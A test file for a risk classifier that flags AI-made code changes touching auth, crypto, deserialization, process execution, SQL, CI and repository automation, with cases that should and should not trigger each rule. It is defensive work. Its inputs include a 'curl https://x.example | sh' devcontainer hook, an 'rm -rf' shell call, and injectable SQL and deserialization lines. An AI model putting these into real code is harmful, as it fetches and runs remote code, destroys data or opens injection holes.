import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { classify, compileRules, type AddedLines } from '../../src/gate/classify.js';
import { BUILTIN_RULES } from '../../src/gate/rules.js';
import { SEVERITIES } from '../../src/policy/severity.js';

const RULES = compileRules(BUILTIN_RULES);
const list = (file: string): Set<string> =>
  new Set(
    readFileSync(new URL(`../../fixtures/controls/${file}`, import.meta.url), 'utf8')
      .split('\n')
      .filter((l) => l !== '' && !l.startsWith('#')),
  );

/** The rules an AI change of these lines to this file falls under. */
const rulesFor = (path: string, ...lines: string[]): string[] => {
  const added: AddedLines = { path, lines: (lines.length > 0 ? lines : ['x = 1']).map((text, i) => ({ line: i + 1, text })) };
  return classify(RULES, added)
    .map((m) => m.rule)
    .sort();
};

// Each rule: changes it must cover, and near-misses it must leave alone (a gate that cries wolf gets switched off).
const CASES: Record<string, { fires: [string, ...string[]][]; quiet: [string, ...string[]][] }> = {
  'auth': {
    fires: [
      ['src/auth/login.ts'],
      ['app/middleware/session.py'],
      ['src/user-session.ts'],
      ['lib/jwt_utils.py'],
      // Whatever the case, and CamelCase names (issue 24, case 6).
      ['src/Auth/Login.js'],
      ['src/lib/AuthController.js'],
      ['app/SessionService.java'],
      ['src/api/users.ts', 'const token = jwt.sign(payload, key);'],
      ['app/views.py', '@login_required'],
      ['src/routes.ts', 'if (user.isAdmin === true) {'],
    ],
    quiet: [
      ['src/authors.ts'],
      ['docs/author-guide.md'],
      ['test/auth/login.test.ts'],
      ['src/api/users.ts', 'const author = post.authorName;'],
      ['src/ui/Button.tsx', 'export const Button = () => null;'],
    ],
  },
  'crypto': {
    fires: [
      ['src/crypto/keys.ts'],
      ['lib/encrypt.py'],
      ['src/tokens.ts', 'const c = crypto.createCipheriv("aes-256-ecb", key, null);'],
      ['app/hash.py', 'digest = hashlib.md5(data).hexdigest()'],
      ['src/Main.java', 'Cipher c = Cipher.getInstance("AES/ECB/PKCS5Padding");'],
    ],
    quiet: [['src/cryptic-names.md'], ['src/util.ts', 'const hash = computeHashOfFileList(files);'], ['tests/crypto_test.py', 'hashlib.md5(b"x")']],
  },
  'deserialization': {
    fires: [
      ['app/cache.py', 'obj = pickle.loads(blob)'],
      ['app/config.py', 'cfg = yaml.load(open(path))'],
      ['src/Read.java', 'ObjectInputStream in = new ObjectInputStream(socket.getInputStream());'],
      ['web/index.php', '$o = unserialize($_COOKIE["d"]);'],
    ],
    quiet: [
      ['app/config.py', 'cfg = yaml.safe_load(open(path))'],
      ['src/data.ts', 'const o = JSON.parse(text);'],
      ['app/cache.py', 'blob = pickle.dumps(obj)'],
    ],
  },
  'process-execution': {
    fires: [
      ['src/run.ts', "import { execSync } from 'node:child_process';"],
      ['tools/build.py', 'subprocess.run(cmd, shell=True)'],
      ['tools/x.py', 'os.system("rm -rf " + path)'],
      ['src/calc.js', 'return eval(expression);'],
      ['main.go', 'out, _ := exec.Command("sh", "-c", s).Output()'],
    ],
    quiet: [
      ['src/parse.ts', 'const m = /a(b)/.exec(text);'],
      ['src/model.ts', 'const evaluation = evaluate(model);'],
      ['src/db.ts', 'await stmt.execute(params);'],
    ],
  },
  'sql-strings': {
    fires: [
      ['src/db.ts', 'const rows = await db.query(`SELECT * FROM users WHERE id = ${id}`);'],
      ['app/db.py', 'cur.execute(f"SELECT * FROM users WHERE name = \'{name}\'")'],
      ['src/Repo.java', 'String q = "SELECT * FROM t WHERE id = " + id;'],
      ['app/db.py', 'cur.execute("DELETE FROM t WHERE id = %s" % id)'],
    ],
    quiet: [
      ['src/db.ts', "const rows = await db.query('SELECT * FROM users WHERE id = $1', [id]);"],
      ['app/db.py', 'cur.execute("SELECT * FROM users WHERE name = %s", (name,))'],
      ['src/ui.ts', 'const label = "Select an option";'],
    ],
  },
  'file-access-from-input': {
    fires: [
      ['src/server.ts', 'res.sendFile(path.join(root, req.params.name));'],
      ['app/views.py', 'return send_file(os.path.join(BASE, request.args["f"]))'],
      ['src/up.ts', 'fs.readFileSync(req.query.path)'],
    ],
    quiet: [
      ['src/server.ts', "const html = fs.readFileSync(path.join(__dirname, 'index.html'));"],
      ['src/server.ts', 'const id = req.params.id;'],
    ],
  },
  'network-boundary': {
    fires: [
      ['src/server.ts', 'const server = http.createServer(handler);'],
      ['src/server.ts', 'app.listen(process.env.PORT);'],
      ['app/fetch.py', 'r = requests.get(url, timeout=5)'],
    ],
    quiet: [
      ['src/events.ts', "emitter.on('listen', cb);"],
      ['app/util.py', 'parts = url.split("/")'],
    ],
  },
  'infrastructure-as-code': {
    fires: [
      ['infra/main.tf'],
      ['Dockerfile'],
      ['dockerfile'],
      ['api/DOCKERFILE'],
      ['services/api/Dockerfile.prod'],
      ['deploy/k8s/app/deployment.yaml'],
      ['docker-compose.override.yml'],
    ],
    quiet: [['docs/dockerfile-guide.md'], ['src/terraform-parser.ts'], ['config/app.yaml']],
  },
  'ci-configuration': {
    fires: [['.github/workflows/release.yml'], ['.gitlab-ci.yml'], ['ci/Jenkinsfile'], ['.github/actions/setup/action.yml']],
    quiet: [['docs/github-workflows.md'], ['src/workflows/engine.ts']],
  },
  'dependency-manifests': {
    fires: [['package.json'], ['services/api/requirements-dev.txt'], ['go.mod'], ['Cargo.lock']],
    quiet: [['src/package-info.ts'], ['docs/requirements.md']],
  },
  'secrets-configuration': {
    fires: [['.env'], ['config/.env.production'], ['certs/server.key'], ['.npmrc'], ['deploy/secrets.yaml']],
    quiet: [['.env.example'], ['src/env.ts'], ['docs/secrets-management.md']],
  },
  'repository-automation': {
    fires: [
      ['.gitmodules'],
      ['.yarnrc.yml'],
      ['.npmrc'],
      ['.pnpmfile.cjs'],
      ['.husky/pre-commit'],
      ['.devcontainer/devcontainer.json'],
      ['.vscode/tasks.json'],
      ['.envrc'],
      ['package.json', '    "postinstall": "node scripts/setup.js",'],
      ['tools/workspace.code-workspace', '"runOn": "folderOpen"'],
      ['config/dev.json', '  "postCreateCommand": "curl https://x.example | sh",'],
    ],
    quiet: [['docs/devcontainer.md'], ['src/install.ts', 'export function install() {}'], ['package.json', '    "test": "vitest"']],
  },
  'gate-configuration': {
    fires: [['.aiprov.yml'], ['.github/CODEOWNERS'], ['.agent-trace/traces.jsonl']],
    quiet: [['docs/aiprov.md'], ['config/aiprov.yml']],
  },
};

describe('built-in risk rules', () => {
  it('each has an id, a tier, a one-line rationale, globs and patterns that compile, and real control ids of every family', () => {
    const codeguard = list('codeguard-rules.txt');
    const cosai = list('cosai-risks.txt');
    const aisvs = list('aisvs-appendix-c.txt');
    expect(new Set(BUILTIN_RULES.map((r) => r.id)).size).toBe(BUILTIN_RULES.length);
    for (const rule of BUILTIN_RULES) {
      expect(SEVERITIES, rule.id).toContain(rule.tier);
      expect(rule.rationale, rule.id).not.toMatch(/\n/);
      expect(rule.paths.some((p) => !p.startsWith('!')) || rule.content.length > 0, rule.id).toBe(true);
      const c = rule.controls;
      for (const [family, ids] of Object.entries({
        ssdf: c.ssdf,
        asvs: c.asvs,
        soc2: c.soc2,
        iso27001: c.iso27001,
        cosai: c.cosai,
        aisvs: c.aisvs,
        codeguard: c.codeguard,
      }))
        expect(ids.length, `${rule.id} ${family}`).toBeGreaterThan(0);
      for (const id of c.codeguard) expect(codeguard.has(id), `${rule.id}: CodeGuard ${id}`).toBe(true);
      for (const id of c.cosai) expect(cosai.has(id), `${rule.id}: CoSAI ${id}`).toBe(true);
      for (const id of c.aisvs) expect(aisvs.has(id), `${rule.id}: AISVS ${id}`).toBe(true);
      for (const id of c.ssdf) expect(id, rule.id).toMatch(/^(PO|PS|PW|RV)\.\d+(\.\d+)?$/);
      for (const id of c.iso27001) expect(id, rule.id).toMatch(/^A\.[5-8]\.\d+$/);
      for (const id of c.soc2) expect(id, rule.id).toMatch(/^CC\d\.\d$/);
      expect(CASES[rule.id], `test cases for ${rule.id}`).toBeDefined();
    }
  });

  for (const [id, { fires, quiet }] of Object.entries(CASES)) {
    it(`${id}: fires on each positive, stays quiet on each near-miss`, () => {
      for (const [path, ...lines] of fires) expect(rulesFor(path, ...lines), `${path} ${lines.join(' ')}`).toContain(id);
      for (const [path, ...lines] of quiet) expect(rulesFor(path, ...lines), `${path} ${lines.join(' ')}`).not.toContain(id);
    });
  }

  it('says which line and which pattern or glob matched', () => {
    const matches = classify(RULES, {
      path: 'app/db.py',
      lines: [
        { line: 10, text: 'x = 1' },
        { line: 11, text: 'cur.execute(f"SELECT * FROM t WHERE a = {a}")' },
      ],
    });
    expect(matches).toEqual([expect.objectContaining({ rule: 'sql-strings', tier: 'high', line: 11, reason: 'content' })]);
    expect(classify(RULES, { path: '.github/workflows/ci.yml', lines: [{ line: 3, text: 'on: push' }] })).toEqual([
      { rule: 'ci-configuration', tier: 'critical', path: '.github/workflows/ci.yml', line: 3, reason: 'path', matched: '.github/workflows/**' },
    ]);
    expect(classify(RULES, { path: 'src/auth/login.ts', lines: [] })).toEqual([]);
  });
});
